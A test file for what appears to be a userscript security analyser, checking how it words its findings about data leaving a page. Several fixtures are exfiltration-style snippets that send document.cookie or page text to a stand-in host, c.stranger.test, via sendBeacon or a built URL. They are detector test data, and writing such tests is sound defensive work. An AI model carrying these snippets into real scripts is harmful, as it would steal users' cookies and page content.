import { describe, expect, test } from "vitest";
import { analyzeScript } from "../analyze-script.ts";
import { userscript } from "../testing/find-in.ts";

const on = (body: string, ...more: string[]) => userscript(["match https://shop.example/*", ...more], body);

/** The sentences of one rule. */
function sentencesOf(type: string, code: string): readonly string[] {
	return analyzeScript({ code }).vulnerabilities.flatMap((found) => (found.type === type ? [found.description] : []));
}

describe("what a sentence about a path says", () => {
	const hops = (count: number) =>
		Array.from({ length: count }, (_, hop) => `function f${hop}(v) { return f${hop + 1}(v); }`).join("\n");
	const through = (count: number, data: string) =>
		on(`${hops(count)}\nfunction f${count}(v) { navigator.sendBeacon("https://c.stranger.test/", v); }\nf0(${data});`);

	test("a short path is stated", () => {
		expect(sentencesOf("page-scraping", through(1, "document.body.innerText"))).toEqual([
			"Content of the page is sent to c.stranger.test by navigator.sendBeacon, without being asked (body .innerText).",
		]);
	});

	test.each([
		["page-scraping", "document.body.innerText"],
		["history-tracking", "location.href"],
	])("a path of %s that is cut off is not told", (type, data) => {
		expect(sentencesOf(type, through(9, data))).toEqual([]);
	});

	test("of a secret it is told as a possibility", () => {
		expect(sentencesOf("cookie-exfiltration", through(9, "document.cookie"))).toEqual([
			"The site's cookies are possibly sent to c.stranger.test by navigator.sendBeacon, without being asked (document.cookie): the way there is long.",
		]);
	});
});

describe("a function whose code is not here", () => {
	test.each([
		["an address and data", 'page.tools.post("https://n.stranger.test/rates", { at: document.title });'],
		["options with an address", 'page.tools({ url: "https://n.stranger.test/rates", at: document.title });'],
		["a text that begins with an address", 'page.tools.tell(1, "https://n.stranger.test/?" + document.title);'],
	])("that gets %s is not said to contact the server", (_title, body) => {
		expect(sentencesOf("undeclared-contact", on(body))).toEqual([
			"Gives an address of n.stranger.test to a function whose code is not here, which may contact it, by itself.",
		]);
	});

	test.each([
		["an attribute of an element", 'page.part.setAttribute("href", "https://n.stranger.test/?" + document.title);'],
		["a list", 'page.list.push("https://n.stranger.test/?" + document.title, document.title);'],
		["a console", 'page.out.log("https://n.stranger.test/?" + document.title, document.title);'],
	])("is none when it only fills %s", (_title, body) => {
		expect(sentencesOf("undeclared-contact", on(body))).toEqual([]);
	});

	test("still counts when it is given a secret in a stranger's address", () => {
		const code = on('page.part.setAttribute("data-url", "https://c.stranger.test/?" + document.cookie);');
		expect(sentencesOf("cookie-exfiltration", code)).toEqual([
			"The site's cookies are possibly sent to c.stranger.test, without being asked (document.cookie): a function whose code is not here gets both, the data and the address.",
		]);
	});

	test("is not what sets a property", () => {
		const code = on('document.body.later = "https://c.stranger.test/?" + document.cookie;');
		expect(sentencesOf("cookie-exfiltration", code)).toEqual([
			"The site's cookies are possibly sent to c.stranger.test, without being asked (document.cookie): an address with the data in it is put into a property whose effect is not known.",
		]);
	});
});

describe("a variable of the page whose name is put together", () => {
	const named = 'const page = window[prompt("name")];\n';

	test.each([
		["a text", 'page.context.tags.replace("a", "b");'],
		["a list", 'page.items.split(";").join(",");'],
		["a number", "page.total.toFixed(2);"],
	])("is not called when it is used as %s", (_title, body) => {
		expect(sentencesOf("unresolved-access", on(named + body))).toEqual([]);
	});

	test("is called by a method of its own", () => {
		expect(sentencesOf("unresolved-access", on(`${named}page.send(document.title);`))).toEqual([
			"Calls a function of the page or the browser that the check could not determine.",
		]);
		expect(sentencesOf("unresolved-access", on(`${named}page.replace("https://c.stranger.test/");`))).toHaveLength(1);
	});

	test("may keep what has no effect, and not what a browser would open", () => {
		expect(sentencesOf("unresolved-access", on(`${named}page.next = { on: true };`))).toEqual([]);
		expect(sentencesOf("unresolved-access", on(`${named}page.href = "https://c.stranger.test/";`))).toEqual([
			"Sets a property whose name is put together while the script runs: an object of the page that the check could not determine.",
		]);
		expect(sentencesOf("unresolved-access", on(`${named}page.next = document.cookie;`))).toHaveLength(1);
	});
});

describe("an address that the check could not determine", () => {
	test.each([
		["Opens a page at", "window.open(page.next)"],
		["Loads a picture from", "new Image().src = page.next"],
		["Sends a request to", "fetch(page.next)"],
		["Leaves the page for", "location.href = page.next"],
	])("%s it", (what, body) => {
		const [sentence] = sentencesOf("unresolved-access", on(`${body};`));
		expect(sentence).toMatch(new RegExp(`^${what} an address that the check could not determine \\(`));
	});
});

describe("two facts in one sentence", () => {
	test("have a path to the place of the first one", () => {
		const code = on('const own = navigator.clipboard.readText();\nfetch("https://n.stranger.test/?" + page.word);');
		const found = analyzeScript({ code }).vulnerabilities.find(({ type }) => type === "capability-pair");
		expect(found?.description).toBe(
			"Reads navigator.clipboard and sends requests to n.stranger.test; whether the data is in them is not known.",
		);
		expect(found?.path.map(({ line }) => line)).toEqual([5]);
	});

	test("are not told of a request that has no room for data", () => {
		const code = on('const own = navigator.clipboard.readText();\nfetch("https://n.stranger.test/rates.json");');
		expect(sentencesOf("capability-pair", code)).toEqual([]);
	});
});
